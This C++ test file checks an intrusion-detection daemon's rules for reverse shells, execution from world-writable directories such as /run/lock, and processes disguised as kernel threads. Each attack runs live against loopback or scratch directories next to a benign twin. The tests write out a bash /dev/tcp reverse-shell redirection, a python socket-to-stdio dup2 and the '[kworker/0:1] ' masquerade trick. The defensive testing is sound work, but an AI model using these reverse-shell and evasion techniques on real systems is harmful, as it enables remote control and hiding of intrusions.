// Live tests of issue 17's file-system and descriptor blind spots (cases 3
// and 8), each reproducing the attack as the issue writes it with the real
// procmond and the real rule, next to a benign twin:
// - a shell that moves its stdin/stdout onto a socket after it started
//   (proc-reverse-shell-socket-stdio, seen by a running procmond's next scans);
// - a payload run from /run/lock, a world-writable directory that is not
//   /tmp or /var/tmp (proc-exec-from-tmp over writable_dirs);
// - a process posing as a kernel thread with trailing white space,
//   "[kworker/0:1] " (proc-kernel-thread-masquerade).
// The cases that need root (a world-writable directory of root's, a hard
// link owned by another user) are in rules_blindspots_fs_privileged_test.cc.
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>
#include <filesystem>
#include <string>
#include <vector>

#include "sentinel/storage/sqlite.h"
#include "sentinel/testing/temp_dir.h"
#include "tests/rules/rules_fixture.h"

namespace sentinel::rules_test {
namespace {

std::string Sleep() {
  return SystemBinary("sleep");
}

// procmond as a daemon scanning every second into `db` (no real-time
// source), stopped with SIGTERM (its queued scans written) on Stop().
class ScanningProcmond {
 public:
  ScanningProcmond(const std::string& dir, const std::string& db)
      : db_(db),
        daemon_(dir, db,
                {"SENTINELD_COLLECTION__INTERVAL_SECS=1", "SENTINELD_COLLECTION__REALTIME_EVENTS=false"},
                "procmond-scan.err") {}

  // Completed scans in the store (0 before the first).
  int64_t Scans() const { return Count("SELECT count(*) FROM scan_metadata WHERE status = 'completed'"); }
  // Waits for `more` scans completed after this call.
  bool WaitForScans(int64_t more) {
    const int64_t target = Scans() + more;
    return daemon_.running() && WaitUntil([&] { return Scans() >= target; }, 30s);
  }
  // Waits until a completed scan recorded `pid`.
  bool WaitForProcess(pid_t pid) {
    const std::string sql = "SELECT count(*) FROM processes WHERE pid = " + std::to_string(pid);
    return daemon_.running() && WaitUntil([&] { return Count(sql) > 0; }, 30s);
  }
  void Stop() { daemon_.Stop(); }
  std::string Log() const { return daemon_.Log(); }

 private:
  int64_t Count(const std::string& sql) const {
    auto db = storage::Database::Open(db_, storage::OpenMode::kReadOnly);
    if (!db.ok()) return 0;
    auto n = (*db)->QueryInt(sql);
    return n.ok() ? n->value_or(0) : 0;
  }
  std::string db_;
  ProcmondDaemon daemon_;
};

// "socket:[N]" / "pipe:[N]" / a path: what `fd` of `pid` points at now.
std::string FdLink(pid_t pid, int fd) {
  char buf[256];
  const std::string link = "/proc/" + std::to_string(pid) + "/fd/" + std::to_string(fd);
  const ssize_t n = ::readlink(link.c_str(), buf, sizeof buf - 1);
  return n < 0 ? "" : std::string(buf, static_cast<size_t>(n));
}

// Shells and interpreters that wait for a line on a FIFO of their own, then
// move their descriptors: procmond scans them first as they started, then
// the test releases them and waits for two more scans.
class StdioMoveTest : public RuleLiveTest {
 protected:
  // bash runs `redirect` (an `exec` of redirections only: bash itself moves
  // its descriptors) once released, then sleeps.
  pid_t BashThen(const std::string& redirect) {
    const std::string fifo = NewFifo();
    return Keep(
        TestProcess::Start(SystemBinary("bash"),
                           {"bash", "-c", "read -r _ < '" + fifo + "'; " + redirect + "; sleep 1000; true"}));
  }
  // python3 connects to 127.0.0.1:port once released and dup2()s the socket
  // onto fd 0 and `also` (1, or 2 for a twin); -1 when there is no python3.
  pid_t PythonThen(int port, int also) {
    if (SystemBinary("python3").empty()) return -1;
    const std::string fifo = NewFifo();
    return Keep(TestProcess::Start(SystemBinary("python3"),
                                   {"python3", "-c",
                                    "import os, socket, sys, time\n"
                                    "open(sys.argv[1]).readline()\n"
                                    "s = socket.create_connection(('127.0.0.1', int(sys.argv[2])))\n"
                                    "os.dup2(s.fileno(), 0)\n"
                                    "os.dup2(s.fileno(), int(sys.argv[3]))\n"
                                    "time.sleep(1000)\n",
                                    fifo, std::to_string(port), std::to_string(also)}));
  }
  // Starts procmond, waits until a scan recorded every process started,
  // then releases them.
  void ScanThenRelease() {
    db_ = work().File("events-scan.db");
    procmond_ = std::make_unique<ScanningProcmond>(work().path(), db_);
    for (const auto& p : procs_) ASSERT_TRUE(procmond_->WaitForProcess(p->pid())) << procmond_->Log();
    for (const std::string& fifo : fifos_) {
      const int w = ::open(fifo.c_str(), O_WRONLY | O_CLOEXEC);
      ASSERT_GE(w, 0) << std::strerror(errno);
      ASSERT_EQ(::write(w, "\n", 1), 1);
      ::close(w);
    }
  }
  // Waits for two scans after the descriptors moved, stops procmond and
  // runs the rule over its store.
  detection::RuleResult AfterTwoScans(const std::string& rule) {
    EXPECT_TRUE(procmond_->WaitForScans(2)) << procmond_->Log();
    procmond_->Stop();
    return Run(rule, db_);
  }

 private:
  std::string NewFifo() {
    fifos_.push_back(work().File("go-" + std::to_string(fifos_.size())));
    EXPECT_EQ(::mkfifo(fifos_.back().c_str(), 0600), 0) << std::strerror(errno);
    return fifos_.back();
  }
  pid_t Keep(std::unique_ptr<TestProcess> p) {
    EXPECT_NE(p, nullptr);
    if (!p) return -1;
    procs_.push_back(std::move(p));
    return procs_.back()->pid();
  }

  std::vector<std::string> fifos_;
  std::string db_;
  std::vector<std::unique_ptr<TestProcess>> procs_;
  std::unique_ptr<ScanningProcmond> procmond_;
};

bool IsSocket(pid_t pid, int fd) {
  return FdLink(pid, fd).rfind("socket:", 0) == 0;
}

// ---------------------------------------------------------------------------
// proc-reverse-shell-socket-stdio: the move after the start (case 3)

TEST_F(StdioMoveTest, ProcReverseShellSocketStdio_ShellMovesStdioToASocketAfterItStarted) {
  LoopbackConnection conn;
  ASSERT_TRUE(conn.ok());
  const pid_t bash = BashThen("exec 0<>/dev/tcp/127.0.0.1/" + std::to_string(conn.port()) + " 1>&0 2>&0");
  const pid_t python = PythonThen(conn.port(), 1);
  ASSERT_GT(bash, 0);
  ScanThenRelease();
  ASSERT_TRUE(WaitUntil([&] { return IsSocket(bash, 0) && IsSocket(bash, 1); })) << FdLink(bash, 0);
  if (python > 0) {
    ASSERT_TRUE(WaitUntil([&] { return IsSocket(python, 0) && IsSocket(python, 1); }));
  }
  auto r = AfterTwoScans("proc-reverse-shell-socket-stdio");
  auto row = ExpectOneRow(r, bash);
  EXPECT_EQ(row.value("name", ""), "bash");
  EXPECT_NE(row.value("stdin_socket_inode", int64_t{0}), 0) << row.dump();
  if (python > 0) {
    EXPECT_EQ(ExpectOneRow(r, python).value("name", ""), "python3");
  }
}

TEST_F(StdioMoveTest, ProcReverseShellSocketStdio_ShellMovesStdioToAFileOrOnlyOneStreamToASocket) {
  // The benign twins of the move: a script sending its output to a log
  // (stdin from /dev/null), one logging to a socket with stdin kept (a
  // journal stream), and an interpreter with stdin and stderr (not stdout)
  // on a socket.
  LoopbackConnection conn;
  ASSERT_TRUE(conn.ok());
  const std::string log = work().File("out.log");
  const pid_t to_log = BashThen("exec </dev/null >'" + log + "' 2>&1");
  const pid_t journal = BashThen("exec 1<>/dev/tcp/127.0.0.1/" + std::to_string(conn.port()) + " 2>&1");
  const pid_t python = PythonThen(conn.port(), 2);
  ASSERT_TRUE(to_log > 0 && journal > 0);
  ScanThenRelease();
  ASSERT_TRUE(WaitUntil([&] { return FdLink(to_log, 1) == log; })) << FdLink(to_log, 1);
  ASSERT_TRUE(WaitUntil([&] { return IsSocket(journal, 1); })) << FdLink(journal, 1);
  if (python > 0) {
    ASSERT_TRUE(WaitUntil([&] { return IsSocket(python, 0) && IsSocket(python, 2); }));
  }
  ExpectNoRows(AfterTwoScans("proc-reverse-shell-socket-stdio"), {to_log, journal, python});
}

// ---------------------------------------------------------------------------
// proc-exec-from-tmp over writable_dirs: /run/lock (case 8)

TEST_F(RuleLiveTest, ProcExecFromTmp_RunLockIsWorldWritableToo) {
  struct stat st {};
  if (::stat("/run/lock", &st) != 0 || !(st.st_mode & S_IWOTH)) {
    GTEST_SKIP() << "no world-writable /run/lock on this host";
  }
  struct statvfs vfs {};
  if (::statvfs("/run/lock", &vfs) == 0 && (vfs.f_flag & ST_NOEXEC)) {
    GTEST_SKIP() << "/run/lock is mounted noexec here: nothing can run from it";
  }
  ScratchDir lock("/run/lock");
  ASSERT_TRUE(lock.ok()) << "cannot create a directory in /run/lock";
  const std::string bin = lock.File("payload");
  CopyExecutable(Sleep(), bin);
  auto p = TestProcess::Start(bin, {"payload", "1000"});
  ASSERT_NE(p, nullptr);
  auto row = ExpectOneRow(ScanAndRun("proc-exec-from-tmp"), p->pid());
  EXPECT_EQ(row.value("exe_path", ""), bin);
}

TEST_F(RuleLiveTest, ProcExecFromTmp_ADirectoryNamedLikeAWritableOneIsNot) {
  // Whole path components count: /run/lock.XXXXXX (mode 0700, beside
  // /run/lock, and sorting just before "/run/lock/") is not /run/lock; nor
  // is a packaged program under any writable directory.
  std::string dir = "/run/lock.sentinel-XXXXXX";
  if (::mkdtemp(dir.data()) == nullptr)
    GTEST_SKIP() << "cannot create a directory in /run: " << std::strerror(errno);
  struct Cleanup {
    std::string dir;
    ~Cleanup() {
      std::error_code ec;
      std::filesystem::remove_all(dir, ec);
    }
  } cleanup{dir};
  const std::string bin = dir + "/payload";
  CopyExecutable(Sleep(), bin);
  auto p = TestProcess::Start(bin, {"payload", "1000"});
  auto system = TestProcess::Start(Sleep(), {"sleep", "1000"});
  ASSERT_TRUE(p && system);
  ExpectNoRows(ScanAndRun("proc-exec-from-tmp"), {p->pid(), system->pid()});
}

// ---------------------------------------------------------------------------
// proc-kernel-thread-masquerade with trailing white space (case 8)

TEST_F(RuleLiveTest, ProcKernelThreadMasquerade_TrailingSpaces) {
  // exec -a "[kworker/0:1] " payload: argv[0] only; and a comm of its own.
  const std::string bin = work().File("bin/payload");
  CopyExecutable(ProbeBin(), bin);
  auto argv0 = TestProcess::Start(bin, {"[kworker/0:1] ", "x"});
  auto comm =
      TestProcess::Start(ProbeBin(), {"[kworker/0:1]  "}, {.env = {"RULE_PROBE_COMM=[kworker/0:1] "}});
  auto nbsp = TestProcess::Start(bin, {"[kworker/0:1]\u00a0"});
  ASSERT_TRUE(argv0 && comm && nbsp);
  ASSERT_TRUE(WaitUntil([&] { return Comm(comm->pid()) == "[kworker/0:1] "; })) << Comm(comm->pid());
  auto r = ScanAndRun("proc-kernel-thread-masquerade");
  ExpectOneRow(r, argv0->pid());
  EXPECT_EQ(ExpectOneRow(r, comm->pid()).value("name", ""), "[kworker/0:1] ");
  ExpectOneRow(r, nbsp->pid());
}

TEST_F(RuleLiveTest, ProcKernelThreadMasquerade_TrailingSpacesOnAnOrdinaryName) {
  // White space around an ordinary name, and a bracketed title that does
  // not end in ']' (celery's "[celeryd: ...] -active-").
  auto spaced = TestProcess::Start(ProbeBin(), {"worker-1 "}, {.env = {"RULE_PROBE_COMM= worker-1 "}});
  auto title = TestProcess::Start(ProbeBin(), {"[celeryd: w@host:MainProcess] -active- (worker)"});
  ASSERT_TRUE(spaced && title);
  ASSERT_TRUE(WaitUntil([&] { return Comm(spaced->pid()) == " worker-1 "; }));
  ExpectNoRows(ScanAndRun("proc-kernel-thread-masquerade"), {spaced->pid(), title->pid()});
}

}  // namespace
}  // namespace sentinel::rules_test
